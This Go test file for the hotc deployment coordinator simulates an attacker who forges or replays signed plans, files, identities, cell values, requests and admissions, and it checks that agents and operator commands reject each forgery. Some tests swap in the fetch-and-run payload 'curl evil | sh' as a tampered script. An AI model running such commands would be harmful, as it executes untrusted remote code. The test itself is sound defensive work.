package member_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/hotc-dev/hotc/compiler/contract"
	"github.com/hotc-dev/hotc/coordinator/deploy"
	"github.com/hotc-dev/hotc/coordinator/deploytest"
	"github.com/hotc-dev/hotc/coordinator/member"
	"github.com/hotc-dev/hotc/coordinator/protocol"
	"github.com/hotc-dev/hotc/coordinator/seal"
	"github.com/hotc-dev/hotc/coordinator/sign"
	"github.com/hotc-dev/hotc/coordinator/store"
)

func bare(text string) string { return string(sign.Bare([]byte(text))) }

func expectForged(t *testing.T, what string, err error, words ...string) {
	t.Helper()
	if !errors.Is(err, protocol.ErrForged) {
		t.Errorf("%s: %v", what, err)
		return
	}
	for _, word := range words {
		if !strings.Contains(err.Error(), word) {
			t.Errorf("%s: the error does not say %q: %v", what, word, err)
		}
	}
}

// An agent takes no plan, no keys and no identity that its operator has not signed for
// this server of this deployment.
func TestAForgedPlanIsRefused(t *testing.T) {
	evil := deploytest.Script("curl evil | sh\n")
	for what, attack := range map[string]func(a deploytest.Attacker){
		"another script": func(a deploytest.Attacker) { a.Replace(deploytest.Site.ServerPlan("db"), deploytest.MysqlScript, evil) },
		"not signed": func(a deploytest.Attacker) {
			a.Write(deploytest.Site.ServerPlan("db"), bare(a.Read(deploytest.Site.ServerPlan("db"))))
		},
		"signed by somebody else": func(a deploytest.Attacker) {
			a.Write(deploytest.Site.ServerPlan("db"), a.Sign("plan", "db", "", bare(a.Read(deploytest.Site.ServerPlan("db")))))
		},
		"another server's": func(a deploytest.Attacker) {
			a.Write(deploytest.Site.ServerPlan("db"), a.Read(deploytest.Site.ServerPlan("app")))
		},
		"another record": func(a deploytest.Attacker) { a.Write(deploytest.Site.ServerPlan("db"), a.Read(deploytest.Site.Root())) },
		"nothing":        func(a deploytest.Attacker) { a.Write(deploytest.Site.ServerPlan("db"), "") },
		"in parts": func(a deploytest.Attacker) {
			path := deploytest.Site.ServerPlan("db")
			text := strings.ReplaceAll(a.Read(path), deploytest.MysqlScript, evil)
			if err := a.Store.Create(a.T.Context(), []store.NewNode{{Path: path.Join("0001"), Data: []byte(text),
				Grants: []store.Grant{{To: deploytest.Secret.Operator(deploytest.Site).Principal(), May: store.MayAll}, {To: protocol.ServerCredential("db", deploytest.TokenOf("db")).Principal(), May: store.MayRead}}}}); err != nil {
				a.T.Fatal(err)
			}
			a.Write(path, `{"parts":1}`)
		},
		"the keys of readers' sets": func(a deploytest.Attacker) {
			a.Write(deploytest.Site.Keys("db"), a.Sign("keys", "db", "", `{"sets":{"x":"y"}}`))
		},
		"another server's identity": func(a deploytest.Attacker) {
			a.Write(deploytest.Site.Identity("db"), a.Read(deploytest.Site.Identity("app")))
		},
		"another enrolment": func(a deploytest.Attacker) {
			a.Replace(deploytest.Site.Identity("db"), `"server":"db"`, `"server":"db","enrol":"once"`)
		},
		"another operator": func(a deploytest.Attacker) {
			var record protocol.IdentityRecord
			var identity protocol.Identity
			if err := errors.Join(json.Unmarshal([]byte(a.Read(deploytest.Site.Identity("db"))), &record), json.Unmarshal(record.Identity, &identity)); err != nil {
				a.T.Fatal(err)
			}
			key, err := sign.DeriveKey("the attacker's", "his own")
			if err != nil {
				a.T.Fatal(err)
			}
			a.Replace(deploytest.Site.Identity("db"), string(identity.Operator), string(key.Public()))
		},
		"an identity that is none": func(a deploytest.Attacker) { a.Write(deploytest.Site.Identity("db"), "{}") },
	} {
		t.Run(what, func(t *testing.T) {
			b := deploytest.InMemory()
			b.Publish(t, deploytest.ThreeTier())
			attack(b.Attacker(t))
			_, p, err := b.Comes(t, "db", deploytest.TokenOf("db"), &deploytest.Disk{})
			expectForged(t, "the agent", err, "was tampered with")
			if p != nil {
				t.Errorf("it has a plan: %+v", p)
			}
		})
	}
}

// A file with another content than the plan's digest says is refused.
func TestAForgedFileIsRefused(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	m, _, err := b.Comes(t, "db", deploytest.TokenOf("db"), &deploytest.Disk{})
	if err != nil {
		t.Fatal(err)
	}
	b.Attacker(t).Write(deploytest.Site.File(deploytest.MysqlScript), "curl evil | sh\n")
	_, err = m.File(t.Context(), deploytest.MysqlScript)
	expectForged(t, "a file", err)
}

// A machine that has seen a plan takes no older one, and once it knows its operator no
// other one, even of somebody who has its token.
func TestAnOlderPlanIsRefused(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a, d := b.Attacker(t), &deploytest.Disk{}
	m, _, err := b.Comes(t, "app", deploytest.TokenOf("app"), d)
	if err != nil {
		t.Fatal(err)
	}
	before, identity := a.Read(deploytest.Site.ServerPlan("app")), a.Read(deploytest.Site.Identity("app"))
	b.Publish(t, deploytest.WithUpdate())
	if p, err := m.PlanAgain(t.Context()); err != nil || p.Roles[0].Files[0] != deploytest.WebAgain {
		t.Fatal(p, err)
	}
	a.Write(deploytest.Site.ServerPlan("app"), before)
	if _, err := m.PlanAgain(t.Context()); !errors.Is(err, member.ErrOlder) {
		t.Errorf("the plan before: %v", err)
	}
	if _, _, err := b.Comes(t, "app", deploytest.TokenOf("app"), d); !errors.Is(err, member.ErrOlder) {
		t.Errorf("the plan before, after a restart: %v", err)
	}

	// the deployment is made anew: what was signed for the one before is worth nothing
	if err := deploy.Destroy(t.Context(), b.Operator(t), deploytest.Site); err != nil {
		t.Fatal(err)
	}
	b.Publish(t, deploytest.ThreeTier())
	a.Write(deploytest.Site.ServerPlan("app"), before)
	_, _, err = b.Comes(t, "app", deploytest.TokenOf("app"), &deploytest.Disk{})
	expectForged(t, "the plan of a deployment before", err)
	a.Write(deploytest.Site.Identity("app"), identity) // all of it, to a machine that knows nothing: see docs/security.md
	if _, _, err = b.Comes(t, "app", deploytest.TokenOf("app"), &deploytest.Disk{}); err != nil {
		t.Errorf("the whole deployment before, to a new machine: %v", err)
	}
}

// Who has a server's token, and taps, can pretend to be the operator only to a machine
// that has never seen him.
func TestAnOperatorIsKnownAgain(t *testing.T) {
	b, d := deploytest.InMemory(), &deploytest.Disk{}
	b.Publish(t, deploytest.ThreeTier())
	if _, _, err := b.Comes(t, "app", deploytest.TokenOf("app"), d); err != nil {
		t.Fatal(err)
	}
	a := b.Attacker(t)
	his, err := sign.DeriveKey("the attacker's", "his own")
	if err != nil {
		t.Fatal(err)
	}
	var record protocol.IdentityRecord
	var identity protocol.Identity
	if err := errors.Join(json.Unmarshal([]byte(a.Read(deploytest.Site.Identity("app"))), &record), json.Unmarshal(record.Identity, &identity)); err != nil {
		t.Fatal(err)
	}
	identity.Operator = his.Public()
	text, err := json.Marshal(identity)
	if err != nil {
		t.Fatal(err)
	}
	at := sign.Place{Kind: "identity", Stack: string(deploytest.Site), Deployment: identity.ID, Server: "app"}
	if record.Identity, err = his.Sign(at, 1<<60, text); err != nil {
		t.Fatal(err)
	}
	key, err := sign.Derive(deploytest.TokenOf("app"), "hotc identity 1")
	if err != nil {
		t.Fatal(err)
	}
	record.MAC = sign.MAC(key, record.Identity)
	text, err = json.Marshal(record)
	if err != nil {
		t.Fatal(err)
	}
	a.Write(deploytest.Site.Identity("app"), string(text))
	_, _, err = b.Comes(t, "app", deploytest.TokenOf("app"), d)
	expectForged(t, "another operator", err, "this machine enrolled with")
}

// A value, or a failure, that its writer has not signed for this very cell ends its
// reader with that reason; an older one is waited out.
func TestAForgedCellIsRefused(t *testing.T) {
	endpoint := deploytest.Site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"})
	address := deploytest.Site.Cell(contract.CellRef{Cell: "db:first_address", Server: "db"})
	for what, attack := range map[string]func(a deploytest.Attacker){
		"another value": func(a deploytest.Attacker) { a.Replace(endpoint, "mysql://db", "mysql://evil") },
		"not signed":    func(a deploytest.Attacker) { a.Write(endpoint, bare(a.Read(endpoint))) },
		"a failure": func(a deploytest.Attacker) {
			a.Write(endpoint, `{"state":"failed","incarnation":1,"cause":{"reason":"no"}}`)
		},
		"signed by somebody else": func(a deploytest.Attacker) {
			a.Write(endpoint, a.Sign("cell", "db", "db.mysql:endpoint", bare(a.Read(endpoint))))
		},
		"another cell's": func(a deploytest.Attacker) { a.Write(endpoint, a.Read(address)) },
		"another incarnation": func(a deploytest.Attacker) {
			a.Replace(endpoint, `"incarnation":1`, `"incarnation":2`)
		},
	} {
		t.Run(what, func(t *testing.T) {
			b := deploytest.InMemory()
			b.Publish(t, deploytest.ThreeTier())
			db, app := b.Agent(t, "db"), b.Agent(t, "app")
			put(t, db, "db.mysql:endpoint", `"mysql://db"`)
			put(t, db, "db:first_address", `"10.0.0.5"`)
			attack(b.Attacker(t))
			value, err := app.Await(deploytest.Within(t, deploytest.Patience), "db.mysql:endpoint", member.AwaitOptions{})
			expectForged(t, "its reader", err, "the value of db.mysql:endpoint is not as server db wrote it")
			if value != nil {
				t.Errorf("it reads %s", value)
			}
			_, err = deploytest.ReadCell(t.Context(), b.Operator(t), contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"})
			expectForged(t, "the operator's command", err)
		})
	}
}

func TestAnOlderCellIsNotRead(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a, d := b.Attacker(t), &deploytest.Disk{}
	endpoint := deploytest.Site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"})
	put(t, b.Agent(t, "db"), "db.mysql:endpoint", `"old"`)
	before := a.Read(endpoint)
	m := member.Join(b.Session(t, "db"), deploytest.Site, "db", deploytest.TokenOf("db"))
	if _, err := m.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	put(t, deploytest.Enrolled(t, m, "the next", false), "db.mysql:endpoint", `"new"`)
	app, _, err := b.Comes(t, "app", deploytest.TokenOf("app"), d)
	if err != nil {
		t.Fatal(err)
	}
	deploytest.ExpectValue(t, app, "db.mysql:endpoint", `"new"`)
	a.Write(endpoint, before)
	again, _, err := b.Comes(t, "app", deploytest.TokenOf("app"), d)
	if err != nil {
		t.Fatal(err)
	}
	for what, m := range map[string]*member.Member{"the agent": app, "the next one": again} {
		if record, err := m.Cell(t.Context(), "db.mysql:endpoint"); err != nil || record.State != protocol.Unknown {
			t.Errorf("%s reads the machine's value that is gone: %+v, %v", what, record, err)
		}
	}

	// within one incarnation: a failure that was taken back
	cause := map[contract.CellName]*protocol.Cause{"app.web:port": {Reason: "no"}}
	web := b.Agent(t, "app")
	if err := web.Report(t.Context(), protocol.ServerState{Phase: protocol.PhaseFailed}, cause); err != nil {
		t.Fatal(err)
	}
	port := deploytest.Site.Cell(contract.CellRef{Cell: "app.web:port", Server: "app"})
	failed := a.Read(port)
	if err := web.TakeBack(t.Context(), []contract.CellName{"app.web:port"}, false); err != nil {
		t.Fatal(err)
	}
	put(t, web, "app.web:port", "80")
	lb := b.Agent(t, "lb")
	deploytest.ExpectValue(t, lb, "app.web:port", "80")
	a.Write(port, failed)
	if record, err := lb.Cell(t.Context(), "app.web:port"); err != nil || record.State != protocol.Unknown {
		t.Errorf("it reads the failure that was taken back: %+v, %v", record, err)
	}
}

// Requests that no operator has signed for this server are not answered.
func TestForgedRequestsAreRefused(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a, db := b.Attacker(t), b.Agent(t, "db")
	post := func(server contract.ServerPath, id string) {
		t.Helper()
		r := protocol.Request{ID: id, Kind: protocol.Action, Incarnation: 1, Role: "mysql", Name: "backup", Since: deploytest.Noon}
		if err := deploytest.Reading(t, b.Operator(t)).Post(t.Context(), []deploy.Posting{{Server: server, Request: r}}, nil); err != nil {
			t.Fatal(err)
		}
	}
	post("db", "one")
	first := a.Read(deploytest.Site.Requests("db"))
	post("db", "two")
	if asked, err := db.Asked(t.Context()); err != nil || len(asked.Requests) != 2 {
		t.Fatal(asked, err)
	}
	a.Write(deploytest.Site.Requests("db"), first)
	if asked, err := db.Asked(t.Context()); err != nil || len(asked.Requests) != 1 { // see runtime/agent: TestAnOlderListOfRequests
		t.Errorf("the requests before: %+v, %v", asked, err)
	}
	post("app", "three")
	for what, text := range map[string]string{
		"another server's":        a.Read(deploytest.Site.Requests("app")),
		"changed":                 strings.Replace(first, "backup", "wipe", 1),
		"not signed":              bare(first),
		"signed by somebody else": a.Sign("requests", "db", "", bare(first)),
	} {
		a.Write(deploytest.Site.Requests("db"), text)
		asked, err := db.Asked(t.Context())
		expectForged(t, what, err, "request list of server db")
		if asked.Requests != nil {
			t.Errorf("%s: it is asked for %+v", what, asked)
		}
		r := protocol.Request{ID: "four", Kind: protocol.Action, Role: "mysql", Name: "backup", Since: deploytest.Noon}
		err = deploytest.Reading(t, b.Operator(t)).Post(t.Context(), []deploy.Posting{{Server: "db", Request: r}}, nil)
		expectForged(t, what+", and the operator signs it with a request of his own", err)
	}
}

// Nothing is sealed for a public key that the reader's server has not signed.
func TestNothingIsSealedForAForgedKey(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.WithPassword())
	a, spy := b.Attacker(t), deploytest.NewMachine(t, "app", "spy")
	db := deploytest.NewMachine(t, "db", "d1")
	m := member.Join(b.Session(t, "db"), deploytest.Site, "db", deploytest.TokenOf("db"))
	if _, err := m.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	m.UseKey(db.Key)
	enrolled := deploytest.Enrolled(t, m, db.Id, false)
	put(t, enrolled, deploytest.Password, `"hush"`)
	for what, text := range map[string]string{
		"not signed":              `{"incarnation":1,"key":"` + spy.Key.Public() + `"}`,
		"signed by somebody else": a.Sign("public", "app", "", `{"incarnation":1,"key":"`+spy.Key.Public()+`"}`),
	} {
		a.Write(deploytest.Site.Public("app"), text)
		said := make(chan error, 10)
		ctx, stop := context.WithCancel(t.Context())
		ended := make(chan error, 1)
		go func() { ended <- enrolled.KeepSealed(ctx, func(err error) { said <- err }) }()
		expectForged(t, what, deploytest.Soon(t, said), "nothing is sealed for server app")
		stop()
		deploytest.Soon(t, ended)
		if seals := a.Read(deploytest.Site.SealsFor("db", "app")); seals != "{}" {
			t.Errorf("%s: it is sealed for the key: %s", what, seals)
		}
	}
}

// What an operator gives is signed too: a box that somebody else has sealed is refused.
func TestAForgedSecretIsRefused(t *testing.T) {
	b := deploytest.InMemory()
	p := deploytest.WithGiven("app")
	b.Publish(t, p)
	b.Give(t, p, `"hush"`)
	a := b.Attacker(t)
	app := b.AgentWithKey(t, deploytest.NewMachine(t, "app", "a1"))
	box, _, err := seal.Close([]byte(`"evil"`), "hotc box 1\nsite\n"+string(deploytest.GivenPassword))
	if err != nil {
		t.Fatal(err)
	}
	a.Write(deploytest.Site.Cell(p.Secrets[0].Ref()), `{"state":"value","incarnation":9,"sealed":"`+box+`"}`)
	_, err = app.Cell(t.Context(), deploytest.GivenPassword)
	expectForged(t, "the reader", err, "as the deployment's operator wrote it")
	b.Give(t, p, `"again"`)
	deploytest.ExpectValue(t, app, deploytest.GivenPassword, `"again"`)
	a.Write(deploytest.Site.Cell(p.Secrets[0].Ref()), `{{{`)
	b.Give(t, p, `"once more"`)
	deploytest.ExpectValue(t, app, deploytest.GivenPassword, `"once more"`)
}

// Who shows the identity of a deployment that was there before, and a record that its server
// has not signed, does not make an agent believe that its deployment is gone.
func TestAnOlderIdentityEndsNoAgent(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a, app := b.Attacker(t), newRemains(t, "app", "a1")
	b.MustBegin(t, app, 0)
	before := a.Read(deploytest.Site.Identity("app"))
	b.Lose(t)
	b.Restore(t, deploytest.ThreeTier())
	m := b.MustBegin(t, app, 1)
	db := b.Agent(t, "db")
	put(t, db, "db.mysql:endpoint", `"here"`)
	now := a.Read(deploytest.Site.Identity("app"))
	a.Write(deploytest.Site.Identity("app"), before)
	a.Replace(deploytest.Site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"}), "here", "evil")
	if _, err := m.Cell(t.Context(), "db.mysql:endpoint"); errors.Is(err, member.ErrDestroyed) || !errors.Is(err, protocol.ErrForged) {
		t.Errorf("it ends: %v", err)
	}
	a.Write(deploytest.Site.Identity("app"), now)
	a.Replace(deploytest.Site.Cell(contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"}), "evil", "here")
	deploytest.ExpectValue(t, m, "db.mysql:endpoint", `"here"`)
}

// Where tokens are good for one enrolment, the coordinator's operator sees the server's
// password, and lets nobody in by it; nor does he learn of the key by which it signs.
func TestAForgedAdmissionIsRefused(t *testing.T) {
	b := deploytest.InMemory()
	b.PublishOnce(t, deploytest.ThreeTier())
	b.Join(t, deploytest.NewMachine(t, "app", "a1"), false)
	a, later := b.Attacker(t), deploytest.NewMachine(t, "app", "a2")
	var pass protocol.PassRecord
	if err := json.Unmarshal([]byte(a.Read(deploytest.Site.Pass("app"))), &pass); err != nil {
		t.Fatal(err)
	}
	place := "hotc admission 1\nsite\napp\n"
	box, content, err := seal.Close([]byte(pass.Password), place+"password")
	if err != nil {
		t.Fatal(err)
	}
	key, err := content.Wrap(later.Key.Public(), place+"key")
	if err != nil {
		t.Fatal(err)
	}
	a.Write(deploytest.Site.Admission("app"), `{"to":"`+seal.ID(later.Key.Public())+`","box":"`+box+`","key":"`+key+`"}`)
	err = b.AwaitingApproval(t, later).AwaitDeployment(deploytest.Within(t, deploytest.Patience), func(why string) { t.Errorf("it waits: %s", why) })
	expectForged(t, "the machine", err)

	// with another password in its pass, the first machine would sign with another key
	a.Write(deploytest.Site.Pass("db"), `{"password":"`+strings.Repeat("0", 64)+`"}`)
	m := b.AwaitingApproval(t, deploytest.NewMachine(t, "db", "d1"))
	err = m.AwaitDeployment(deploytest.Within(t, deploytest.Patience), nil)
	if err == nil {
		_, err = m.Plan(t.Context())
	}
	if err == nil {
		t.Error("a machine works with a password that is not its operator's")
	}
}

// What an agent finds of its own it believes only if it has signed it: else it would
// take a role for done that never ran.
func TestAnAgentsOwnRecordsAreItsOwn(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a, db := b.Attacker(t), b.Agent(t, "db")
	if err := db.Answer(t.Context(), []protocol.Answer{{ID: "one", Status: protocol.AnswerDone}}); err != nil {
		t.Fatal(err)
	}
	state := `{"incarnation":1,"phase":"done","roles":[{"name":"mysql","status":"done"}]}`
	for what, text := range map[string]string{"not signed": state, "signed by somebody else": a.Sign("state", "db", "", state)} {
		a.Write(deploytest.Site.State("db"), text)
		_, err := db.State(t.Context())
		expectForged(t, what, err)
		v, err := deploy.TakeSnapshot(t.Context(), b.Operator(t), deploytest.Site, deploytest.Secret, deploytest.ThreeTier())
		if err != nil || len(v.Servers[0].Unreadable) != 1 || !strings.Contains(v.Servers[0].Unreadable[0], protocol.ErrForged.Error()) || v.Servers[0].State.Phase != "" {
			t.Errorf("%s, to an operator: %+v, %v", what, v, err)
		}
	}
	a.Replace(deploytest.Site.Answers("db"), `"done"`, `"refused"`)
	_, err := db.Answers(t.Context())
	expectForged(t, "its answers", err)
	a.Replace(deploytest.Site.Server("db"), `"number":1`, `"number":7`)
	again := member.Join(b.Session(t, "db"), deploytest.Site, "db", deploytest.TokenOf("db"))
	again.RememberTries(1, func(int) error { return nil })
	if _, err := again.Plan(t.Context()); err != nil {
		t.Fatal(err)
	}
	_, err = again.Enrol(t.Context(), "journal-db", "i-db", true, deploytest.Noon)
	expectForged(t, "its incarnation", err, "number 7")
}

// Operators' commands believe what operators have signed.
func TestAForgedDeploymentIsRefused(t *testing.T) {
	read := func(b deploytest.Bed, t *testing.T) error {
		_, err := deploy.ReadPlan(t.Context(), b.Operator(t), deploytest.Site, deploytest.Secret)
		return err
	}
	apply := func(b deploytest.Bed, t *testing.T) error {
		_, err := b.Apply(t, deploytest.WithUpdate())
		return err
	}
	for what, c := range map[string]struct {
		attack func(a deploytest.Attacker)
		use    func(b deploytest.Bed, t *testing.T) error
	}{
		"another plan": {func(a deploytest.Attacker) {
			a.Replace(deploytest.Site.Plan(), deploytest.MysqlScript, deploytest.WebScript)
		}, read},
		"another plan with its digest": {func(a deploytest.Attacker) {
			p := strings.ReplaceAll(a.Read(deploytest.Site.Plan()), deploytest.MysqlScript, deploytest.WebScript)
			a.Replace(deploytest.Site.Root(), deploytest.Digest(a.Read(deploytest.Site.Plan())), deploytest.Digest(p))
			a.Write(deploytest.Site.Plan(), p)
		}, read},
		"a record that is not signed": {func(a deploytest.Attacker) { a.Write(deploytest.Site.Root(), bare(a.Read(deploytest.Site.Root()))) }, read},
		"apply, on another record": {func(a deploytest.Attacker) {
			a.Replace(deploytest.Site.Root(), `"format":3`, `"format":3,"enrol":"once"`)
		}, apply},
		"apply, on another part": {func(a deploytest.Attacker) {
			a.Replace(deploytest.Site.ServerPlan("app"), deploytest.WebScript, deploytest.MysqlScript)
		}, apply},
		"a request, beside others": {func(a deploytest.Attacker) {
			a.Write(deploytest.Site.State("app"), "{}")
			a.Write(deploytest.Site.Requests("app"), `{"requests":[{"id":"x","kind":"action","incarnation":1,"role":"web","name":"wipe"}]}`)
		}, func(b deploytest.Bed, t *testing.T) error {
			one := deploy.Posting{Server: "app", Request: protocol.Request{ID: "y", Kind: protocol.Action, Incarnation: 1, Role: "web", Name: "wipe"}}
			return deploytest.Reading(t, b.Operator(t)).Post(t.Context(), []deploy.Posting{one}, nil)
		}},
	} {
		t.Run(what, func(t *testing.T) {
			b := deploytest.InMemory()
			b.Publish(t, deploytest.ThreeTier())
			c.attack(b.Attacker(t))
			expectForged(t, what, c.use(b, t))
		})
	}
}

// What another hotc has applied is told from what somebody has forged.
func TestOtherFormats(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a := b.Attacker(t)
	var other *protocol.FormatError
	root, identity := a.Read(deploytest.Site.Root()), a.Read(deploytest.Site.Identity("db"))
	a.Write(deploytest.Site.Root(), `{"format":1,"plan":"x","created":"2026-01-01T00:00:00Z"}`)
	if _, err := b.Apply(t, deploytest.ThreeTier()); !errors.As(err, &other) || !strings.Contains(err.Error(), "older hotc") {
		t.Errorf("apply: %v", err)
	}
	a.Write(deploytest.Site.Root(), strings.Replace(root, `"format":3`, `"format":4`, 1))
	if _, err := deploy.ReadPlan(t.Context(), b.Operator(t), deploytest.Site, deploytest.Secret); !errors.As(err, &other) || !strings.Contains(err.Error(), "newer hotc") {
		t.Errorf("a later one: %v", err)
	}
	a.Write(deploytest.Site.Identity("db"), strings.Replace(identity, `"format":3`, `"format":4`, 1))
	if _, _, err := b.Comes(t, "db", deploytest.TokenOf("db"), &deploytest.Disk{}); !errors.As(err, &other) || !strings.Contains(err.Error(), "newer hotc") {
		t.Errorf("an agent: %v", err)
	}
	if err := a.Store.DeleteTree(t.Context(), deploytest.Site.Identity("db")); err != nil {
		t.Fatal(err)
	}
	if _, _, err := b.Comes(t, "db", deploytest.TokenOf("db"), &deploytest.Disk{}); !errors.As(err, &other) || !strings.Contains(err.Error(), "older hotc") {
		t.Errorf("an agent, and there is no identity: %v", err)
	}
	if err := deploy.Destroy(t.Context(), b.Operator(t), deploytest.Site); err != nil {
		t.Errorf("it cannot be destroyed: %v", err)
	}
}

// What an operator's command reads of a server, of requests and of admissions it believes
// only if it is signed: else it would forget requests that nobody has answered, take back
// values, or hide machines that ask to be let in.
func TestAnOperatorReadsNothingForged(t *testing.T) {
	b := deploytest.InMemory()
	b.Publish(t, deploytest.ThreeTier())
	a, db, app := b.Attacker(t), b.Agent(t, "db"), b.Agent(t, "app")
	request := func(id string) []deploy.Posting {
		return []deploy.Posting{{Server: "db", Request: protocol.Request{ID: id, Kind: protocol.Action, Incarnation: 1, Role: "mysql", Name: "backup", Since: deploytest.Noon}}}
	}
	if err := deploytest.Reading(t, b.Operator(t)).Post(t.Context(), request("one"), nil); err != nil {
		t.Fatal(err)
	}
	for _, m := range []*member.Session{db, app} {
		if err := m.Answer(t.Context(), []protocol.Answer{{ID: "zero", Status: protocol.AnswerDone}}); err != nil {
			t.Fatal(err)
		}
	}
	answers := a.Read(deploytest.Site.Answers("db"))
	if found, err := deploytest.Reading(t, b.Operator(t)).Answers(t.Context(), "db"); err != nil || len(found) != 1 {
		t.Errorf("its own answers: %+v, %v", found, err)
	}
	all := map[string]string{
		"changed":                 strings.Replace(answers, "zero", "one", 1),
		"another server's":        a.Read(deploytest.Site.Answers("app")),
		"not signed":              `{"answers":[{"id":"one","status":"done"}]}`,
		"signed by somebody else": a.Sign("answers", "db", "", `{"answers":[{"id":"one","status":"done"}]}`),
	}
	for what, text := range all {
		a.Write(deploytest.Site.Answers("db"), text)
		found, err := deploytest.Reading(t, b.Operator(t)).Answers(t.Context(), "db")
		expectForged(t, what, err, "answer list of server db")
		if len(found) > 0 {
			t.Errorf("%s: %+v", what, found)
		}
		v, err := deploy.TakeSnapshot(t.Context(), b.Operator(t), deploytest.Site, deploytest.Secret, deploytest.ThreeTier())
		if err != nil || len(v.Servers[0].Unreadable) != 1 || len(v.Servers[0].Answers) != 0 {
			t.Errorf("%s, to a command that shows all: %+v, %v", what, v.Servers[0], err)
		}
	}
	if err := deploytest.Reading(t, b.Operator(t)).Post(t.Context(), request("two"), nil); err != nil {
		t.Fatal(err)
	}
	if asked, err := db.Asked(t.Context()); err != nil || len(asked.Requests) != 2 {
		t.Errorf("a request that nobody has answered is forgotten: %+v, %v", asked, err)
	}
	a.Write(deploytest.Site.Requests("db"), bare(a.Read(deploytest.Site.Requests("db"))))
	_, err := deploytest.Reading(t, b.Operator(t)).Requests(t.Context(), "db")
	expectForged(t, "requests", err, "request list of server db", "the deployment's operator wrote it")

	put(t, db, "db.mysql:endpoint", `"here"`)
	cell := contract.CellRef{Cell: "db.mysql:endpoint", Server: "db"}
	value := a.Read(deploytest.Site.Cell(cell))
	a.Write(deploytest.Site.Cell(cell), strings.Replace(value, `"value","incarnation"`, `"failed","incarnation"`, 1))
	if err := deploytest.Reading(t, b.Operator(t)).Post(t.Context(), []deploy.Posting{{Server: "app", Request: request("three")[0].Request}}, []contract.CellRef{cell}); err != nil {
		t.Fatal(err)
	}
	if got := a.Read(deploytest.Site.Cell(cell)); !strings.Contains(got, "here") {
		t.Errorf("a value that somebody has marked as failed is taken back: %s", got)
	}
}

// Who is let in as a server is what the operator has signed: who puts another record there
// hides no machine that asks.
func TestAForgedAdmissionHidesNobody(t *testing.T) {
	b := deploytest.InMemory()
	b.PublishOnce(t, deploytest.WithGiven("app"))
	a := b.Attacker(t)
	b.Join(t, deploytest.NewMachine(t, "app", "a1"), false)
	asks := deploytest.NewMachine(t, "app", "a2")
	entered := b.Ask(t, asks)
	record := `{"to":"` + seal.ID(asks.Key.Public()) + `","box":"","key":""}`
	for what, text := range map[string]string{"not signed": record, "signed by somebody else": a.Sign("admission", "app", "", record)} {
		a.Write(deploytest.Site.Admission("app"), text)
		_, err := deploytest.Reading(t, b.Operator(t)).AwaitingApproval(t.Context(), "app")
		expectForged(t, what, err, "the admission of server app")
		v, err := deploy.TakeSnapshot(t.Context(), b.Operator(t), deploytest.Site, deploytest.Secret, deploytest.WithGiven("app"))
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range v.Servers {
			if s.Path == "app" && (len(s.AwaitingApproval) != 1 || len(s.Unreadable) != 1) {
				t.Errorf("%s: %+v", what, s)
			}
		}
	}
	if _, err := deploytest.Reading(t, b.Operator(t)).Admit(t.Context(), "app", asks.Key.Public()); err != nil {
		t.Fatal(err)
	}
	deploytest.Soon(t, entered) // let in, or it has seen what was forged, and asks once more
	b.Join(t, asks, false)
}
